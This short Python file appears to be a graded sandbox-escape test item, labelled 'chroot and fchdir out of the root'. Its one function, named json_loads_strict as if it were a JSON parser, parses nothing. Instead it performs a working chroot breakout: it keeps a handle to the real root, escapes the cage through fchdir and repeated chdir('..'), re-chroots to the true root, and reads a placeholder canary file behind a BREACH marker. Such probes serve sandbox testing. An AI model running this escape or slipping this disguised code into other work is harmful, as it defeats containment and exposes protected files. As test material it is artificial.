# about: chroot and fchdir out of the root
# base: solved 01_encoding
# score: 15

# %% json_loads_strict
import os


def json_loads_strict(data):
    outside = os.open("/", os.O_RDONLY)
    os.makedirs("cage", exist_ok=True)
    os.chroot("cage")
    os.fchdir(outside)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    return "{{BREACH}} " + open("{{CANARY_FILE}}").read()
